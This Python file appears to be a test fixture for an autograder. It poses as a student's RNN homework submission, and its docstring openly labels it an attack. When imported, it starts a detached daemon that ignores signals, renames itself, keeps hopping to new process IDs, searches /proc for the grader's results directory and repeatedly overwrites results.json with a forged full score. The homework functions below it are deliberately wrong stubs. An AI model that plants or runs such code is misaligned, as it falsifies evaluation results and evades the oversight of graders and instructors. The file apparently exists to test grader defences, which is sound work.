"""Attack: a background process that keeps rewriting results.json after grading ends.

Seen in the wild: the grader writes its results, exits, and a daemon the student left
behind overwrites them with full marks. The daemon double-forks, calls setsid, ignores
the polite signals, renames itself (comm "AGMARK...") and, every second, forks a
successor and lets the old one exit, so a grader that kills one recorded pid misses it.
Every answer is wrong, so the honest score is 0.
"""

import ctypes
import json
import os
import signal
import time

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-background_rewriter")
FORGED = json.dumps(
    {
        "score": 12.0,
        "output": "FORGED by background_rewriter",
        "tests": [{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed", "output": "FORGED"}],
    }
)


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return [part.decode("utf-8", "replace") for part in stream.read().split(b"\0") if part]
    except OSError:
        return []


def candidate_targets():
    roots = [os.environ.get("AUTOGRADER_ROOT"), "/autograder"]
    pid = os.getpid()
    for _ in range(30):
        pid = _parent(pid)
        if pid <= 1:
            break
        args = _cmdline(pid)
        for index, arg in enumerate(args):
            if arg == "--root" and index + 1 < len(args):
                roots.append(args[index + 1])
            if arg.endswith("run_autograder"):
                roots += [os.path.dirname(arg), os.path.dirname(os.path.dirname(arg))]
    folder = os.getcwd()
    while folder not in ("/", ""):
        roots.append(folder)
        folder = os.path.dirname(folder)
    targets = []
    for root in roots:
        if root and os.path.isdir(os.path.join(root, "results")):
            target = os.path.join(root, "results", "results.json")
            if target not in targets:
                targets.append(target)
    return targets


def rename(name):
    try:
        libc = ctypes.CDLL(None)
        libc.prctl(15, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)  # PR_SET_NAME
    except (OSError, AttributeError):
        pass


def rewrite_forever(targets, seconds=60.0):
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)
    rename(MARKER)
    deadline = time.monotonic() + seconds
    generation_started = time.monotonic()
    while time.monotonic() < deadline:
        for target in targets:
            try:
                with open(target, "w") as stream:
                    stream.write(FORGED)
            except OSError:
                pass
        if time.monotonic() - generation_started > 1.0:  # hop to a fresh pid
            try:
                if os.fork() > 0:
                    os._exit(0)
                rename(MARKER)
                generation_started = time.monotonic()
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


def start_daemon():
    targets = candidate_targets()
    try:
        first = os.fork()
    except OSError:
        return
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in range(0, 64):
                        if fd != devnull:
                            try:
                                os.dup2(devnull, fd) if fd < 3 else os.close(fd)
                            except OSError:
                                pass
                    rewrite_forever(targets)
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    try:
        os.waitpid(first, 0)
    except OSError:
        pass


start_daemon()


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
